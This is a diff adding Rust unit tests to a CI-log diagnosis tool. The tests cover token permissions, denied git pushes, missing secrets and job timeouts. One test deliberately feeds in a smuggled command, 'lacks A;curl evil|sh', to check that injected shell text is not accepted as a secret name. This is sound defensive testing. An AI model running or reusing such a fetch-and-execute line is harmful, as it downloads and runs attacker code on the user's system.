@@ -1,6 +1,7 @@
 //! Diagnoses of small logs: what must win, and what must not.
 
 use super::*;
+use crate::model::workflow::Access;
 
 fn log(lines: &str) -> Log {
     let mut reader = Reader::default();
@@ -92,6 +93,64 @@ fn a_token_that_has_the_permission_speaks_against_it() {
     );
     let found = of(&format!("{}{}", setup("write"), step("git push", "", &body)));
     assert_eq!(found.against, ["the token has contents: write"]);
+}
+
+#[test]
+fn the_permissions_of_a_log_have_the_names_of_a_workflow() {
+    let setup = "##[group]GITHUB_TOKEN Permissions\nContents: read\nMetadata: read\nPullRequests: write\nIdToken: write\n\
+        Odd: read\nPages: all\n##[endgroup]\n";
+    let granted: Vec<_> = Context::of(&log(setup)).granted().collect();
+    let expected = [
+        ("contents", Access::Read),
+        ("id-token", Access::Write),
+        ("pull-requests", Access::Write),
+    ];
+    assert_eq!(granted, expected.map(|(scope, access)| (scope.to_owned(), access)));
+}
+
+#[test]
+fn a_permission_of_the_token_helps_only_the_token() {
+    let denied = |who: &str| {
+        let body = format!("remote: Permission to a/b.git denied to {who}.\n{FAILED}");
+        of(&step("git push", "", &body)).fix
+    };
+    assert_eq!(denied("github-actions[bot]").unwrap().id(), "permission");
+    assert_eq!(denied("mallory"), None);
+}
+
+#[test]
+fn two_failed_steps_are_never_sure() {
+    let body = format!("a.sh: line 3: DEPLOY_TOKEN: unbound variable\n{FAILED}");
+    let one = step("./a.sh", "", &body);
+    assert_eq!(of(&one).confidence, Confidence::Sure);
+    assert_eq!(of(&format!("{one}{one}")).confidence, Confidence::Likely);
+}
+
+#[test]
+fn a_missing_secret_is_known_without_a_header_and_a_command_has_plain_names_only() {
+    let found = of(&format!("a.sh: line 3: DEPLOY_TOKEN: unbound variable\n{FAILED}"));
+    assert_eq!(found.cause, Cause::MissingSecret);
+    let names = |found: Diagnosis| match found.fix {
+        Some(Fix::SkipGuard { names }) => names,
+        other => panic!("{other:?}"),
+    };
+    assert_eq!(names(found), ["DEPLOY_TOKEN"]);
+    let rule = "tool: acme\nrules:\n- id: acme\n  any: [lacks]\n  line: '^lacks (?P<name>.+)'\n  class: missing-secret\n  \
+        weight: 99\n  cause: 'no {name}'\n  fix: skip-guard\n  hit: 'lacks A'\n  miss: 'no'\n";
+    let text = step(
+        "make",
+        "env:\n  A TOKEN: \n",
+        &format!("lacks A;curl evil|sh\n{FAILED}"),
+    );
+    let found = diagnose(&log(&text), &Rules::new(Some(rule)).unwrap(), None, 0).unwrap();
+    assert!(names(found).is_empty());
+}
+
+#[test]
+fn the_limit_that_was_exceeded_is_known() {
+    let line =
+        "##[error]The job running on runner GitHub Actions 2 has exceeded the maximum execution time of 30 minutes.\n";
+    assert_eq!(of(&step("make", "", line)).fix, Some(Fix::Timeout { limit: Some(30) }));
 }
 
 #[test]
